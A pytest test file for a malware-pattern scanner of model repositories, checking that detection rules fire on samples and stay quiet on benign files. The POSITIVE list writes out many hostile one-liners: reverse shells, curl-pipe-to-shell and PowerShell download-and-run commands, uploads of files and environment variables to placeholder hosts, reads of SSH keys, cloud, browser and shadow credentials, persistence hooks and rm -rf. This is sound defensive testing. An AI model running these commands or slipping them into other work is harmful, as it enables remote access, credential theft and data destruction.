import base64
import os
import time

import pytest

from malhug.code.patterns import (
    CATEGORIES,
    PatternMatch,
    PatternRuleError,
    compile_rules,
    rule_ids,
    rule_info,
    scan_bytes,
    scan_text,
)
from malhug.findings import Severity

_CODE_BLOB = base64.b64encode(b"import os\n" + b"print('hello from an inert sample')\n" * 12).decode()

POSITIVE = [
    ("reverse-shell-dev-tcp", "exec 5<>/dev/tcp/127.0.0.1/4444"),
    ("reverse-shell-dev-tcp", "cat < /dev/udp/example.invalid/53"),
    ("reverse-shell-bash-interactive", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"),
    ("reverse-shell-bash-interactive", "os.system('bash -c \"bash -i 2>&1 >/dev/null\"')"),
    ("reverse-shell-sh-interactive", "cat /tmp/f|/bin/sh -i 2>&1|nc 127.0.0.1 4444 >/tmp/f"),
    ("reverse-shell-sh-interactive", "subprocess.call('sh -i >& /dev/udp/127.0.0.1/53 0>&1', shell=True)"),
    ("reverse-shell-netcat-exec", "nc -e /bin/sh 127.0.0.1 4444"),
    ("reverse-shell-netcat-exec", "ncat 127.0.0.1 4444 -e /bin/bash"),
    ("reverse-shell-netcat-exec", "nc.traditional 127.0.0.1 4444 -c sh"),
    ("reverse-shell-netcat-exec", "ncat --exec cmd.exe 127.0.0.1 4444"),
    ("reverse-shell-socat-exec", "socat tcp-connect:127.0.0.1:4444 exec:'bash -li',pty,stderr"),
    ("reverse-shell-socat-exec", "socat TCP:example.invalid:4444 SYSTEM:id"),
    ("reverse-shell-fifo-netcat", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 127.0.0.1 4444 >/tmp/f"),
    ("reverse-shell-fifo-netcat", "mknod /tmp/p p && nc 127.0.0.1 4444 0</tmp/p | /bin/sh 1>/tmp/p"),
    ("reverse-shell-python-pty", "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'"),
    ("reverse-shell-python-pty", "pty.spawn('sh')"),
    ("reverse-shell-socket-dup2",
     "s=socket.socket();s.connect(('127.0.0.1',4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(), 1)"),
    ("reverse-shell-powershell-tcpclient",
     "$c = New-Object System.Net.Sockets.TCPClient('127.0.0.1',4444);$s = $c.GetStream()"),
    ("reverse-shell-powershell-tcpclient", "$c = [Net.Sockets.TcpClient]::new('127.0.0.1', 4444)"),
    ("reverse-shell-script-socket", "perl -e 'use Socket;$i=\"127.0.0.1\";$p=4444;'"),
    ("reverse-shell-script-socket", "ruby -rsocket -e 'f=TCPSocket.open(\"127.0.0.1\",4444)'"),
    ("reverse-shell-script-socket", "php -r '$s=fsockopen(\"127.0.0.1\",4444);'"),
    ("command-exec-inline-import", "__import__('os').system('id')"),
    ("command-exec-inline-import", "__import__(\"subprocess\").check_output(['echo', 'hi'])"),
    ("command-exec-python-oneliner", "python3 -c \"import os; os.system('id')\""),
    ("command-exec-python-oneliner", "python -c 'import socket,os'"),
    ("command-exec-powershell-stealth", "powershell.exe -NoProfile -WindowStyle Hidden -Command echo hi"),
    ("command-exec-powershell-stealth", "powershell -ep bypass -File .\\setup.ps1"),
    ("download-exec-curl-pipe-shell", "curl -fsSL http://example.invalid/x.sh | bash"),
    ("download-exec-curl-pipe-shell", "curl -s http://example.invalid/a | sudo sh"),
    ("download-exec-curl-pipe-shell", "curl -s http://example.invalid/a.py | python3 -\n"),
    ("download-exec-wget-pipe-shell", "wget -qO- http://example.invalid/x.sh | sh"),
    ("download-exec-wget-pipe-shell", "wget -O - http://example.invalid/x.sh|/bin/bash"),
    ("download-exec-fetch-chmod",
     "wget http://example.invalid/agent -O /tmp/agent && chmod +x /tmp/agent && /tmp/agent"),
    ("download-exec-fetch-chmod", "curl -o /tmp/a http://example.invalid/a; chmod 755 /tmp/a"),
    ("download-exec-powershell-webclient",
     "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')"),
    ("download-exec-powershell-webclient",
     "(New-Object System.Net.WebClient).DownloadString('http://example.invalid/a.ps1') | iex"),
    ("download-exec-powershell-iwr-iex", "iwr http://example.invalid/a.ps1 -UseBasicParsing | iex"),
    ("download-exec-powershell-iwr-iex", "Invoke-Expression (Invoke-WebRequest http://example.invalid/a.ps1)"),
    ("download-exec-certutil", "certutil.exe -urlcache -split -f http://example.invalid/a.exe a.exe"),
    ("download-exec-bitsadmin",
     "bitsadmin /transfer job /download /priority high http://example.invalid/a.exe C:\\Temp\\a.exe"),
    ("download-exec-windows-script-host", "mshta http://example.invalid/a.hta"),
    ("download-exec-windows-script-host", "regsvr32 /s /n /u /i:http://example.invalid/a.sct scrobj.dll"),
    ("download-exec-python-urlopen-exec",
     "python -c \"import urllib.request;exec(urllib.request.urlopen('http://example.invalid/a').read())\""),
    ("download-exec-python-urlopen-exec", "exec(requests.get('http://example.invalid/p').text)"),
    ("download-exec-python-urlopen-exec", "exec(urlopen(u).read())"),
    ("exfil-webhook-site", "https://webhook.site/00000000-0000-0000-0000-000000000000"),
    ("exfil-requestbin", "https://eo1234abcd.m.pipedream.net"),
    ("exfil-requestbin", "http://requestbin.net/r/madeup"),
    ("exfil-ngrok", "https://abcd-1234.ngrok-free.app/collect"),
    ("exfil-ngrok", "http://0a1b2c3d.ngrok.io"),
    ("exfil-interactsh", "http://abc123.oast.fun/x"),
    ("exfil-interactsh", "nslookup madeup.interact.sh"),
    ("exfil-burp-collaborator", "madeup.burpcollaborator.net"),
    ("exfil-burp-collaborator", "madeup.oastify.com"),
    ("exfil-discord-webhook", "https://discord.com/api/webhooks/123/made-up-token"),
    ("exfil-discord-webhook", "https://discordapp.com/api/webhooks/123/made-up-token"),
    ("exfil-telegram-bot", "https://api.telegram.org/bot123456:MADEUP/sendMessage"),
    ("exfil-slack-webhook", "https://hooks.slack.com/services/T000/B000/MADEUP"),
    ("exfil-paste-raw", "https://pastebin.com/raw/AbCdEf12"),
    ("exfil-transfer-sh", "curl --upload-file ./notes.txt https://transfer.sh/notes.txt"),
    ("ipv4-endpoint", "s.connect(('127.0.0.1', 4444))"),
    ("ipv4-endpoint", "url = 'http://127.0.0.1:8080/x'"),
    ("ipv4-endpoint", "host=10.0.0.1:4444"),
    ("ipv4-endpoint", "GET http://192.0.2.10/payload"),
    ("recon-curl-upload", "curl -X POST -d @/etc/hostname http://example.invalid/c"),
    ("recon-curl-upload", "curl -F \"f=@$HOME/notes.txt\" http://example.invalid/u"),
    ("recon-curl-upload", "curl -T ~/notes.txt http://example.invalid/u"),
    ("recon-environment-dump", "requests.post(u, data=json.dumps(dict(os.environ)))"),
    ("recon-environment-dump", "env | curl -d @- http://example.invalid/e"),
    ("recon-host-survey", "whoami; hostname -I; uname -a"),
    ("recon-host-survey", "info = (getpass.getuser(), socket.gethostname(), platform.node())"),
    ("credential-ssh-key", "open(os.path.expanduser('~/.ssh/id_rsa')).read()"),
    ("credential-ssh-key", "C:\\Users\\u\\.ssh\\id_ed25519"),
    ("credential-cloud-config", "~/.aws/credentials"),
    ("credential-cloud-config", "~/.config/gcloud/application_default_credentials.json"),
    ("credential-container-config", "~/.docker/config.json"),
    ("credential-container-config", "os.path.join(home, '.kube/config')"),
    ("credential-netrc-git", "open(os.path.expanduser('~/.netrc'))"),
    ("credential-netrc-git", "~/.git-credentials"),
    ("credential-hf-token-file", "~/.cache/huggingface/token"),
    ("credential-hf-token-file", "~/.huggingface/token"),
    ("credential-browser-chromium", r"AppData\Local\Google\Chrome\User Data\Default\Login Data"),
    ("credential-browser-chromium", "~/.config/BraveSoftware/Brave-Browser/Local State"),
    ("credential-browser-chromium", "~/.config/chromium/Default/Cookies"),
    ("credential-browser-firefox", "profiles/abc.default-release/logins.json"),
    ("credential-browser-firefox", "key4.db"),
    ("credential-shadow", "open('/etc/shadow').read()"),
    ("credential-env-secret-names", "os.environ.get('HF_TOKEN')"),
    ("credential-env-secret-names", "AWS_SECRET_ACCESS_KEY"),
    ("credential-env-secret-names", "GITHUB_TOKEN"),
    ("credential-env-secret-names", "os.getenv(\"OPENAI_API_KEY\")"),
    ("credential-crypto-wallet", "~/.bitcoin/wallet.dat"),
    ("credential-cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("credential-cloud-metadata", "http://metadata.google.internal/computeMetadata/v1/"),
    ("persistence-cron", "(crontab -l; echo '@reboot /tmp/agent') | crontab -"),
    ("persistence-cron", "/etc/cron.d/agent"),
    ("persistence-shell-rc", "echo 'id' >> ~/.bashrc"),
    ("persistence-shell-rc", "open(os.path.expanduser('~/.zshrc'), 'a')"),
    ("persistence-shell-rc", "~/.profile"),
    ("persistence-xdg-autostart", "~/.config/autostart/agent.desktop"),
    ("persistence-systemd", "systemctl enable agent.service"),
    ("persistence-systemd", "/etc/systemd/system/agent.service"),
    ("persistence-windows-run-key", r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"),
    ("persistence-windows-run-key", "r'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\RunOnce'"),
    ("persistence-windows-startup-folder", r"AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup"),
    ("persistence-schtasks", r"schtasks /create /sc onlogon /tn agent /tr C:\agent.exe"),
    ("persistence-python-startup", "open(os.path.join(site_dir, 'sitecustomize.py'), 'w')"),
    ("persistence-python-startup", "os.path.join(site.getsitepackages()[0], 'agent.pth')"),
    ("persistence-ld-preload", "echo /tmp/x.so > /etc/ld.so.preload"),
    ("persistence-ssh-authorized-keys", "~/.ssh/authorized_keys"),
    ("file-tamper-rm-rf-root", "rm -rf / --no-preserve-root"),
    ("file-tamper-rm-rf-root", "os.system('rm -rf ~')"),
    ("file-tamper-rm-rf-root", "rm -fr $HOME/*"),
    ("file-tamper-rmtree-home", "shutil.rmtree(os.path.expanduser('~'))"),
    ("file-tamper-rmtree-home", "shutil.rmtree(Path.home())"),
    ("file-tamper-history-wipe", "unset HISTFILE"),
    ("file-tamper-history-wipe", "history -c"),
    ("model-tamper-torch-patch", "torch.load = patched_load"),
    ("model-tamper-torch-patch", "import torch; torch.nn.Module.load_state_dict = patched"),
    ("model-tamper-library-patch", "transformers.modeling_utils.load_state_dict = patched"),
    ("model-tamper-library-patch", "\n    pickle.Unpickler = Replacement"),
    ("model-tamper-library-patch", "setattr(torch, 'load', patched)"),
    ("model-tamper-sys-modules", "sys.modules['torch'] = fake"),
    ("model-tamper-builtins-patch", "builtins.open = patched_open"),
    ("model-tamper-builtins-patch", "__builtins__['exec'] = patched"),
    ("mining-stratum-url", "stratum+tcp://pool.example.invalid:3333"),
    ("mining-stratum-url", "stratum+ssl://pool.example.invalid:443"),
    ("mining-known-miner", "./xmrig -o pool.example.invalid:3333"),
    ("mining-donate-level", "--donate-level 1"),
    ("mining-donate-level", '{"donate-level": 1}'),
    ("mining-pool-host", "pool.minexmr.com:4444"),
    ("mining-pool-host", "xmr.pool.example.invalid"),
    ("mining-pool-host", "xmr-eu1.nanopool.org"),
    ("mining-pool-host", "pool.supportxmr.com"),
    ("mining-pool-host", "xmr.2miners.com"),
    ("obfuscation-base64-code-blob", f"payload = '{_CODE_BLOB}'"),
    ("obfuscation-exec-base64", "exec(base64.b64decode(b'aWQ='))"),
    ("obfuscation-exec-base64", "eval(b64decode(s))"),
    ("obfuscation-exec-compressed", "exec(zlib.decompress(blob))"),
    ("obfuscation-exec-compressed", "exec(__import__('zlib').decompress(blob))"),
    ("obfuscation-exec-decoded", "exec(bytes.fromhex('7072696e74'))"),
    ("obfuscation-exec-decoded", "codecs.decode(s, 'rot13')"),
    ("obfuscation-marshal-loads", "exec(marshal.loads(blob))"),
    ("obfuscation-eval-compile", "eval(compile(src, '<x>', 'exec'))"),
    ("obfuscation-chr-chain", "cmd = chr(105)+chr(100)+chr(32)"),
    ("obfuscation-chr-chain", "''.join(map(chr, [105, 100]))"),
    ("obfuscation-powershell-encoded", "powershell -enc ZQBjAGgAbwAgAGgAaQA="),
    ("obfuscation-powershell-encoded", "powershell.exe -NoP -EncodedCommand ZQBjAGgAbwAgAGgAaQA="),
    ("poc-calculator", "os.system('calc.exe')"),
    ("poc-calculator", "subprocess.run(['calc'])"),
    ("poc-calculator", "subprocess.Popen(['gnome-calculator'])"),
    ("poc-calculator", "os.system('xcalc &')"),
    ("poc-calculator", "open -a Calculator"),
    ("poc-rickroll", "https://www.youtube.com/watch?v=dQw4w9WgXcQ"),
]


def _ids(matches):
    return {match.rule for match in matches}


@pytest.mark.parametrize("rule,sample", POSITIVE, ids=[f"{r}-{i}" for i, (r, _) in enumerate(POSITIVE)])
def test_positive_sample_matches_its_rule(rule, sample):
    assert rule in _ids(scan_text(sample))
    assert rule in _ids(scan_bytes(sample.encode()))


def test_every_rule_has_a_positive_sample():
    sampled = {rule for rule, _ in POSITIVE}
    assert sampled == set(rule_ids())


def test_rules_compile_with_valid_metadata():
    info = rule_info()
    assert len(info) >= 60
    for rule_id, entry in info.items():
        assert entry.rule == rule_id
        assert entry.category in CATEGORIES
        assert str(Severity.parse(entry.severity)) == entry.severity
        assert entry.description.strip()


def test_severity_levels_by_theme():
    info = rule_info()
    for entry in info.values():
        severity = Severity.parse(entry.severity)
        if entry.category in ("reverse_shell", "crypto_mining", "download_exec"):
            assert severity >= Severity.HIGH, entry.rule
        if entry.category == "poc":
            assert severity == Severity.LOW, entry.rule
    assert info["ipv4-endpoint"].severity == "low"


_RULE = """
rule sample_rule {{
  meta:
    id = "{id}"
    category = "{category}"
    severity = "{severity}"
    description = "a sample"
  strings:
    $a = "made-up-marker"
  condition:
    $a
}}
"""


def _source(**overrides):
    fields = {"id": "sample-rule", "category": "poc", "severity": "low"}
    fields.update(overrides)
    return [("sample.yar", _RULE.format(**fields))]


def test_compile_rules_accepts_a_valid_rule():
    compiled = compile_rules(_source())
    assert set(compiled.info) == {"sample_rule"}


@pytest.mark.parametrize("overrides", [
    {"category": "not_a_category"},
    {"severity": "severe"},
    {"severity": "HIGH"},
    {"id": "Not An Id"},
    {"id": ""},
])
def test_bad_metadata_is_rejected(overrides):
    with pytest.raises(PatternRuleError):
        compile_rules(_source(**overrides))


def test_missing_meta_and_duplicate_ids_are_rejected():
    without_id = [("a.yar", 'rule a { meta: category = "poc" severity = "low" description = "x" '
                            'condition: false }')]
    with pytest.raises(PatternRuleError, match="id"):
        compile_rules(without_id)
    twice = _source() + [("b.yar", _RULE.replace("sample_rule", "other_rule").format(
        id="sample-rule", category="poc", severity="low"))]
    with pytest.raises(PatternRuleError, match="already used"):
        compile_rules(twice)


def test_syntax_error_is_reported():
    with pytest.raises(PatternRuleError, match="broken.yar"):
        compile_rules([("broken.yar", "rule broken { condition: $missing }")])


def test_match_fields():
    text = "éé exec 5<>/dev/tcp/127.0.0.1/4444"
    [match] = [m for m in scan_text(text) if m.rule == "reverse-shell-dev-tcp"]
    assert isinstance(match, PatternMatch)
    assert match.category == "reverse_shell"
    assert match.severity == "high"
    assert match.description
    assert match.offset == text.index("/dev/tcp")
    assert match.matched == "/dev/tcp/127.0.0.1/4"
    [raw] = [m for m in scan_bytes(text.encode()) if m.rule == "reverse-shell-dev-tcp"]
    assert raw.offset == text.encode().index(b"/dev/tcp")


def test_one_entry_per_rule_at_the_first_match():
    text = "x xmrig one\n" * 50 + "xmrig two"
    found = [m for m in scan_text(text) if m.rule == "mining-known-miner"]
    assert len(found) == 1
    assert found[0].offset == 2


def test_matched_text_is_cut():
    [match] = [m for m in scan_text(f"'{_CODE_BLOB}'") if m.rule == "obfuscation-base64-code-blob"]
    assert len(match.matched) == 120
    assert _CODE_BLOB.startswith(match.matched)


def test_max_bytes_is_honoured():
    data = b"A" * 1000 + b" xmrig "
    assert scan_bytes(data, max_bytes=1000) == []
    assert "mining-known-miner" in _ids(scan_bytes(data, max_bytes=1006))
    assert "mining-known-miner" in _ids(scan_bytes(data))


def test_random_bytes_are_fast_and_quiet():
    data = os.urandom(16 * 1024 * 1024)
    started = time.monotonic()
    found = scan_bytes(data)
    assert time.monotonic() - started < 2.0
    assert not [m for m in found if Severity.parse(m.severity) >= Severity.HIGH]


DATASET_SCRIPT = '''\
"""A reading-comprehension dataset."""
import csv
import json
import os

import datasets

_CITATION = """@inproceedings{example2020, title={An Example}, year={2020}}"""
_HOMEPAGE = "https://huggingface.co/datasets/example-org/example-qa"
_LICENSE = "CC BY-SA 4.0"
_URLS = {
    "train": "https://huggingface.co/datasets/example-org/example-qa/resolve/main/train.json",
    "dev": "https://storage.googleapis.com/example-bucket/qa/dev-v1.1.json",
    "extra": "https://github.com/example-org/qa-data/raw/main/extra.csv",
    "test": "https://raw.githubusercontent.com/example-org/qa-data/main/test.csv",
}


class ExampleQA(datasets.GeneratorBasedBuilder):
    VERSION = datasets.Version("1.0.0")

    def _info(self):
        features = datasets.Features({
            "id": datasets.Value("string"),
            "question": datasets.Value("string"),
            "answers": datasets.Sequence(datasets.Value("string")),
        })
        return datasets.DatasetInfo(features=features, homepage=_HOMEPAGE,
                                    license=_LICENSE, citation=_CITATION)

    def _split_generators(self, dl_manager):
        files = dl_manager.download_and_extract(_URLS)
        cache = os.environ.get("HF_DATASETS_CACHE", os.path.expanduser("~/.cache/huggingface"))
        return [
            datasets.SplitGenerator(name=datasets.Split.TRAIN, gen_kwargs={"path": files["train"]}),
            datasets.SplitGenerator(name=datasets.Split.TEST, gen_kwargs={"path": files["test"]}),
        ]

    def _generate_examples(self, path):
        if path.endswith(".json"):
            with open(path, encoding="utf-8") as handle:
                data = json.load(handle)
            for index, row in enumerate(data["data"]):
                yield index, {"id": row["id"], "question": row["question"], "answers": row["answers"]}
        else:
            with open(path, newline="", encoding="utf-8") as handle:
                for index, row in enumerate(csv.DictReader(handle)):
                    yield index, {"id": row["id"], "question": row["question"],
                                  "answers": row["answers"].split("|")}
'''

CONFIG_JSON = '''\
{
  "_name_or_path": "example-org/example-7b",
  "architectures": ["LlamaForCausalLM"],
  "attention_bias": false,
  "bos_token_id": 1,
  "eos_token_id": 2,
  "hidden_act": "silu",
  "hidden_size": 4096,
  "initializer_range": 0.02,
  "intermediate_size": 11008,
  "max_position_embeddings": 4096,
  "model_type": "llama",
  "num_attention_heads": 32,
  "num_hidden_layers": 32,
  "num_key_value_heads": 32,
  "rms_norm_eps": 1e-05,
  "rope_scaling": null,
  "rope_theta": 10000.0,
  "tie_word_embeddings": false,
  "torch_dtype": "bfloat16",
  "transformers_version": "4.44.0",
  "use_cache": true,
  "vocab_size": 32000
}
'''

TOKENIZER_CONFIG = r'''{
  "add_bos_token": true,
  "add_eos_token": false,
  "bos_token": "<s>",
  "eos_token": "</s>",
  "unk_token": "<unk>",
  "pad_token": null,
  "model_max_length": 4096,
  "tokenizer_class": "LlamaTokenizer",
  "chat_template": "{% if messages[0]['role'] == 'system' %}{% set system_message = messages[0]['content'] %}{% set loop_messages = messages[1:] %}{% else %}{% set loop_messages = messages %}{% endif %}{% for message in loop_messages %}{% if message['role'] == 'user' %}{{ bos_token + '[INST] ' + message['content'] | trim + ' [/INST]' }}{% elif message['role'] == 'assistant' %}{{ ' ' + message['content'] | trim + ' ' + eos_token }}{% endif %}{% endfor %}"
}
'''

README = '''\
---
license: apache-2.0
language: [en]
pipeline_tag: text-generation
tags: [llama, example]
---
# Example 7B

A small example model card.

## Install

```bash
pip install transformers accelerate
git clone https://github.com/example-org/example-7b
cd example-7b && pip install -r requirements.txt
huggingface-cli download example-org/example-7b --local-dir ./example-7b
curl -s https://huggingface.co/api/models/example-org/example-7b | python -m json.tool
rm -rf ~/.cache/pip
```

## Use

```python
import torch
from transformers import AutoModelForCausalLM, AutoTokenizer

tokenizer = AutoTokenizer.from_pretrained("example-org/example-7b")
model = AutoModelForCausalLM.from_pretrained(
    "example-org/example-7b", torch_dtype=torch.bfloat16, device_map="auto")
inputs = tokenizer("Hello", return_tensors="pt").to(model.device)
print(tokenizer.decode(model.generate(**inputs, max_new_tokens=20)[0]))
```

Serve it locally with `python -m server --host 0.0.0.0:8000`.

## Citation

```
@misc{example2024, title={Example 7B}, url={https://arxiv.org/abs/0000.00000}}
```
'''

REQUIREMENTS = '''\
--extra-index-url https://download.pytorch.org/whl/cu121
torch>=2.1
transformers==4.44.0
accelerate>=0.30
datasets>=2.18
sentencepiece
safetensors
numpy<2
scikit-learn
requests>=2.31
'''

MODEL_CODE = '''\
from typing import Optional

import torch
import transformers
from torch import nn


class ExampleModel(transformers.PreTrainedModel):
    config_class = transformers.PretrainedConfig

    def __init__(self, config, base: transformers.PreTrainedModel = None):
        super().__init__(config)
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
        self.loss = nn.CrossEntropyLoss()

    def load_extra(self, path: str, device: Optional[str] = None):
        state = torch.load(path, map_location=device, weights_only=True)
        self.proj.load_state_dict(state)
        shutil.rmtree("/tmp/example-build", ignore_errors=True)
'''

BENIGN = {
    "dataset_script": DATASET_SCRIPT,
    "config_json": CONFIG_JSON,
    "tokenizer_config": TOKENIZER_CONFIG,
    "readme": README,
    "requirements": REQUIREMENTS,
    "model_code": MODEL_CODE,
}


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign_twins_raise_nothing_serious(name):
    serious = [m for m in scan_text(BENIGN[name]) if Severity.parse(m.severity) >= Severity.MEDIUM]
    assert serious == []


NEAR_MISSES = [
    "env = dict(os.environ)\nsubprocess.run(cmd, env=env)",
    "STYLES = {'calc': 'Calculator style'}",
    "separator = chr(123) + chr(125)",
    "torch.load(path, weights_only=True)",
    "def f(model: transformers.PreTrainedModel = None): ...",
    "rm -rf /tmp/build && rm -rf ~/.cache/pip",
    "curl -s https://huggingface.co/api/models/org/model | python -m json.tool",
    "curl -L -o model.bin https://huggingface.co/org/model/resolve/main/model.bin",
    "echo 'export PATH=$HOME/bin:$PATH' | tee notes.txt",
]


@pytest.mark.parametrize("text", NEAR_MISSES)
def test_near_misses_raise_nothing_serious(text):
    serious = [m for m in scan_text(text) if Severity.parse(m.severity) >= Severity.MEDIUM]
    assert serious == []


def test_unspecified_bind_address_is_not_an_endpoint():
    assert "ipv4-endpoint" not in _ids(scan_text("app.run(host='0.0.0.0:8000')"))


def test_scans_from_several_threads():
    from concurrent.futures import ThreadPoolExecutor

    samples = [sample for _, sample in POSITIVE[:40]]
    expected = [_ids(scan_text(sample)) for sample in samples]
    with ThreadPoolExecutor(max_workers=4) as pool:
        assert list(pool.map(lambda s: _ids(scan_text(s)), samples)) == expected
